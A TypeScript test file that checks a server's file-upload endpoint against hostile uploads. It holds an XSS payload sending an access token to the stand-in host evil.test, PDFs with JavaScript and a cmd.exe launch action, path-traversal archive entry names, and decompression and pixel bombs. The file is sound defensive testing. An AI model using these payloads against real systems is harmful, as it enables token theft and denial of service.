import { describe, expect, test } from 'vitest';
import { buildDocx } from '../../../server/src/testing/files/docx-samples.ts';
import {
  buildAnimation,
  buildHiddenDocxBomb,
  buildPixelBomb,
  buildScanBomb,
  joinPdf,
} from '../../../server/src/testing/files/hostile-samples.ts';
import { buildPdf } from '../../../server/src/testing/files/pdf-samples.ts';
import { drawPicture } from '../../../server/src/testing/pictures.ts';
import { signInAccount } from '../../../server/src/testing/test-accounts.ts';
import { startTestApi } from '../../../server/src/testing/test-api.ts';

const api = await startTestApi();
const { request } = api;
const owner = await signInAccount(api);
const jpeg = await drawPicture().jpeg().toBuffer();
const png = await drawPicture().png().toBuffer();
const script = '<script>fetch("//evil.test/" + localStorage["access-token"])</script>';

const send = (content: Buffer | string, name: string) =>
  request.post('/files').set(owner.authorization).attach('file', Buffer.from(content), name);

describe('what a browser or a reader would run', () => {
  test.each<[string, string | Buffer]>([
    ['SVG', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`],
    ['SVG after a comment of 3 kB', `<!--${'x'.repeat(3000)}--><svg>${script}</svg>`],
    ['HTML', `<!doctype html>${script}`],
    ['HTML in capitals after spaces', `\r\n\t <HTML>${script}`],
    [
      'XML with a style sheet',
      '<?xml version="1.0"?><?xml-stylesheet href="//evil.test/a.xsl"?><a/>',
    ],
    ['HTML in UTF-16', Buffer.from(`\ufeff<html>${script}</html>`, 'utf16le')],
    ['HTML in UTF-7', Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-\0')],
    ['PostScript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file'],
    ['RTF with an object', '{\\rtf1{\\object\\objupdate}}'],
    ['a GIF that is JavaScript', 'GIF89a/*\0*/=alert(1)'],
    ['an HTML page that has a PDF in it', `<html>${buildPdf()}`],
    ['a program', Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1')],
  ])('is refused when it is %s, whatever its name', async (_what, content) => {
    for (const name of ['work.pdf', 'work.md']) {
      const { body, status } = await send(content, name);
      expect(status).toBe(422);
      expect(body.code).toMatch(/^file-(type-not-accepted|text-encoding|broken)$/);
    }
  });

  const commented = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, script.length + 2]),
    Buffer.from(script),
    jpeg.subarray(2),
  ]);
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/AA<</O 4 0 R>>>>';
  const pdfWithScript = joinPdf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>/AA<</WC 4 0 R>>>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    page,
    '<</S/JavaScript/JS(app.launchURL\\("https://evil.test"\\); this.exportDataObject\\({cName:"a",nLaunch:2}\\))>>',
  ]);
  const pdfThatLaunches = joinPdf([
    '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>>>',
    '<</Type/Pages/Count 1/Kids[3 0 R]>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]>>',
  ]);

  test.each<[string, Buffer, string]>([
    ['a PDF with JavaScript', pdfWithScript, 'application/pdf'],
    ['a PDF that starts a program', pdfThatLaunches, 'application/pdf'],
    [
      'a PDF with HTML after it',
      Buffer.concat([buildPdf(), Buffer.from(script)]),
      'application/pdf',
    ],
    ['a JPEG with HTML after it', Buffer.concat([jpeg, Buffer.from(script)]), 'image/jpeg'],
    ['a JPEG with HTML in a comment', commented, 'image/jpeg'],
    ['a JPEG with an archive after it', Buffer.concat([jpeg, buildDocx()]), 'image/jpeg'],
    ['a PNG with a PDF after it', Buffer.concat([png, buildPdf()]), 'image/png'],
    ['Markdown with HTML', Buffer.from(`# Work\n\n${script}\n`), 'text/plain'],
    ['text with HTML after 4 kB', Buffer.from(`${' '.repeat(5000)}${script}`), 'text/plain'],
  ])('is sent as what it is and nothing else when it is %s', async (_what, content, type) => {
    const { body } = await send(content, 'work.html').expect(200);
    expect(body.type).toBe(type);
    for (const headers of [{}, { Range: 'bytes=0-20' }, { Accept: 'text/html' }]) {
      const sent = await request
        .get(`/files/${body._id}`)
        .set({ ...owner.authorization, ...headers })
        .buffer();
      expect(sent.headers['content-type']?.split(';')[0]).toBe(type);
      expect(sent.headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'content-security-policy': "default-src 'none'; sandbox",
        'content-disposition': expect.stringMatching(/^attachment; filename=work\.html\.\w+$/),
        'cross-origin-resource-policy': expect.any(String),
      });
    }
  });

  test('loses its script when it is in the metadata of a picture', async () => {
    const { body } = await send(commented, 'work.jpg').expect(200);
    const sent = await request
      .get(`/files/${body._id}`)
      .set(owner.authorization)
      .responseType('blob');
    expect(Buffer.from(sent.body).includes('evil.test')).toBe(false);
  });
});

describe('a docx file', () => {
  test.each([
    '../../../etc/cron.d/evil',
    'word/../../../evil.xml',
    '..\\..\\evil.dll',
    '/etc/passwd',
    'C:\\Windows\\evil.dll',
    'word/media/..',
    'a\0.xml',
  ])('is refused when an entry is named %j', async (name) => {
    const answer = await send(buildDocx({ [name]: Buffer.from('x') }), 'work.docx').expect(422);
    expect(answer.body.code).toBe('file-broken');
  });

  test('is refused when it inflates to more than a reader can hold', async () => {
    const zeros = new Uint8Array(20 * 1024 * 1024);
    const answer = await send(buildDocx({ 'word/media/a.bin': zeros }), 'work.docx').expect(422);
    expect(answer.body.code).toBe('file-expands-too-much');
  });

  test('is refused when its list shows readers a bomb within another entry', async () => {
    const bomb = buildHiddenDocxBomb();
    expect(bomb.length).toBeLessThan(200_000);
    const { body, status } = await send(bomb, 'work.docx');
    expect(status).toBe(422);
    expect(body.code).toMatch(/^file-(broken|expands-too-much)$/);
  });
});

describe('a PDF', () => {
  const catalog = '<</Type/Catalog/Pages 2 0 R>>';
  const pageOf = (parent: number) => `<</Type/Page/Parent ${parent} 0 R/MediaBox[0 0 9 9]>>`;
  const many = Array.from({ length: 100_000 }, () => '<<>>');
  const deep = Array.from(
    { length: 20_000 },
    (_, index) => `<</Type/Pages/Count 1/Kids[${index + 3} 0 R]>>`,
  );

  test.each<[string, Buffer]>([
    [
      'whose pages are their own parents',
      joinPdf([catalog, '<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>']),
    ],
    [
      'whose pages go round',
      joinPdf([
        catalog,
        '<</Type/Pages/Count 99/Kids[3 0 R]>>',
        '<</Type/Pages/Count 99/Kids[2 0 R]>>',
      ]),
    ],
    [
      'with a million pages that it does not have',
      joinPdf([catalog, '<</Type/Pages/Count 1000000/Kids[3 0 R]>>', pageOf(2)]),
    ],
    ['with -1 pages', joinPdf([catalog, '<</Type/Pages/Count -1/Kids[3 0 R]>>', pageOf(2)])],
    ['with pages 20,000 levels deep', joinPdf([catalog, ...deep, pageOf(2)])],
    [
      'with 100,000 objects',
      joinPdf([catalog, '<</Type/Pages/Count 1/Kids[3 0 R]>>', pageOf(2), ...many]),
    ],
    [
      'with arrays in arrays',
      joinPdf([
        `<</Type/Catalog/Pages 2 0 R/A ${'['.repeat(500_000)}>>`,
        '<</Type/Pages/Count 1/Kids[3 0 R]>>',
        pageOf(2),
      ]),
    ],
    [
      'whose table of objects is before itself',
      Buffer.from(`${buildPdf().toString('latin1').replace('trailer<<', 'trailer<</Prev 70')}`),
    ],
  ])(
    '%s is accepted or refused, and the next one is read',
    async (_what, content) => {
      const { status, body } = await send(content, 'work.pdf');
      expect([200, 422]).toContain(status);
      if (status === 422)
        expect(body.code).toMatch(/^file-(broken|expands-too-much|too-many-pages)$/);
      expect((await send(buildPdf(), 'next.pdf').expect(200)).body.pages).toBe(1);
      // A busy machine may need longer to start the thread again.
    },
    60_000,
  );
});

describe('a picture', () => {
  test.each(['jpeg', 'png'] as const)(
    'is refused when a %s of some kilobytes has 4 thousand million pixels',
    async (format) => {
      const { body } = await send(await buildPixelBomb(format), `bomb.${format}`).expect(422);
      expect(body.code).toMatch(/^file-(expands-too-much|broken)$/);
    },
  );

  test('is refused when a JPEG has thousands of passes over many pixels', async () => {
    const bomb = buildScanBomb({ side: 7000, scans: 2000 });
    expect(bomb.length).toBeLessThan(1_000_000);
    const started = performance.now();
    const { body } = await send(bomb, 'bomb.jpg').expect(422);
    expect(body.code).toBe('file-expands-too-much');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  test('that moves is decoded as one picture, and keeps no metadata', async () => {
    const frames = await buildAnimation('Ada Lovelace');
    expect(frames.includes('Ada Lovelace')).toBe(true);
    const { body } = await send(frames, 'work.webp').expect(200);
    const sent = await request
      .get(`/files/${body._id}`)
      .set(owner.authorization)
      .responseType('blob');
    expect(Buffer.from(sent.body).includes('Ada Lovelace')).toBe(false);
  });
});
